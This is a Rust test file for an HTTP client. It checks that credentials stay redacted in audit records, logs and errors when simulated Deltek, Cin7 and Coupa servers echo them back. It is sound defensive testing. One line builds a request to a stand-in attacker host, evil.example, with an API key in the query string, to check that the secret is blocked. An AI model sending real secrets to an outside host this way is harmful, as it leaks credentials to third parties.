//! No secret in any recorded exchange, log line or error, even when servers echo them back.

use std::sync::Arc;

use mlc_core::engine::capture::capture;
use mlc_core::engine::model::BodyRef;
use mlc_core::secret::Redacted;

use super::*;
use crate::{ClientCredentials, DefaultClassifier, HttpClient, Request, StaticHeaders};

#[tokio::test]
async fn secrets_never_reach_exchanges_logs_or_errors() {
    let (logs, _guard) = Logs::start();
    let sim = Arc::new(Sim::default());
    let root = start(sim.clone()).await;
    let rules = || Arc::new(DefaultClassifier::new());
    let deltek = HttpClient::new(config(&root), Arc::new(deltek_grant(&root)), rules()).unwrap();
    let cin7 = HttpClient::new(
        config(&root),
        Arc::new(StaticHeaders::new([("api-auth-applicationkey", Redacted::new(API_KEY.to_string()))])),
        rules(),
    )
    .unwrap();
    let coupa = HttpClient::new(
        config(&root),
        Arc::new(ClientCredentials::new(root.join("token").unwrap(), "c", Redacted::new(CLIENT_SECRET.to_string()))),
        rules(),
    )
    .unwrap();

    let form_pw: String = url::form_urlencoded::byte_serialize(PASSWORD.as_bytes()).collect();
    let ((), exchanges) = capture(async {
        let mut errors = Vec::new();
        // Login, then a body echoing the bearer token.
        deltek.send(Request::get("data")).await.unwrap();
        // A 401 echoing the old token, a refresh, a retry.
        sim.revoke_all_but_new();
        deltek.send(Request::get("data")).await.unwrap();
        // A rejection quoting the password raw, form-encoded and in JSON, and a request body holding it.
        sim.script("/api/vouchers", [Canned::json(
            400,
            &format!(r#"{{"message":"bad {PASSWORD}","form":"Password={form_pw}","token":"access-2-{TOKEN_MARK}"}}"#),
        )]);
        let e = deltek.send(Request::post("vouchers").json(&serde_json::json!({"note": PASSWORD}))).await.unwrap_err();
        errors.push(e.to_string());
        // A body the connector cannot decode, quoting a token.
        sim.script("/api/odd", [Canned::json(200, &format!(r#"{{"weird":"access-2-{TOKEN_MARK}"}}"#))]);
        let odd = deltek.send(Request::get("odd")).await.unwrap();
        errors.push(odd.json::<Vec<u32>>().unwrap_err().to_string());
        // A token endpoint error echoing the posted form.
        *sim.token_answer.lock().unwrap() = Some(Canned::json(
            400,
            &format!(r#"{{"error":"invalid_client","error_description":"client_secret={CLIENT_SECRET} password={PASSWORD}"}}"#),
        ));
        sim.revoke_all_but_new();
        errors.push(deltek.send(Request::get("data")).await.unwrap_err().to_string());
        // (Each connection scrubs its own secrets: Coupa's endpoint echoes Coupa's secret.)
        *sim.token_answer.lock().unwrap() = Some(Canned::json(
            401,
            &format!(r#"{{"error":"invalid_client","error_description":"client_secret={CLIENT_SECRET}"}}"#),
        ));
        errors.push(coupa.send(Request::get("data")).await.unwrap_err().to_string());
        *sim.token_answer.lock().unwrap() = None;
        coupa.send(Request::get("data")).await.unwrap();
        // An api key echoed in a body and in an error.
        cin7.send(Request::get("supplier")).await.unwrap();
        sim.script("/api/supplier", [Canned::json(403, &format!("key {API_KEY} is not allowed"))]);
        errors.push(cin7.send(Request::get("supplier")).await.unwrap_err().to_string());
        // An absolute URL carrying a secret, to another host.
        errors.push(cin7.send(Request::get(format!("https://evil.example/?k={API_KEY}"))).await.unwrap_err().to_string());

        let secrets = [PASSWORD, form_pw.as_str(), CLIENT_SECRET, API_KEY, TOKEN_MARK];
        for e in &errors {
            for s in secrets {
                assert!(!e.contains(s), "error leaks {s}: {e}");
            }
        }
        assert!(errors[0].contains("[redacted]"), "{}", errors[0]);
    })
    .await;

    // Every attempt was recorded, token calls included.
    assert!(exchanges.len() >= 12, "{}", exchanges.len());
    let token_calls: Vec<_> = exchanges.iter().filter(|x| x.url.ends_with("/token")).collect();
    assert!(!token_calls.is_empty());
    for x in &token_calls {
        assert_eq!(x.request, Some(BodyRef::Inline { text: "[redacted form]".into() }));
    }
    let audit = serde_json::to_string(&exchanges).unwrap();
    let log = logs.text();
    assert!(log.contains("http call") && log.contains("token call"), "{log}");
    for s in [PASSWORD, form_pw.as_str(), CLIENT_SECRET, API_KEY, TOKEN_MARK] {
        assert!(!audit.contains(s), "audit trail leaks {s}: {audit}");
        assert!(!log.contains(s), "logs leak {s}: {log}");
    }
    // What was scrubbed still says what happened.
    assert!(audit.contains(r#"\"note\":\"[redacted]\""#), "{audit}");
    assert!(exchanges.iter().any(|x| x.status == Some(401)));
}
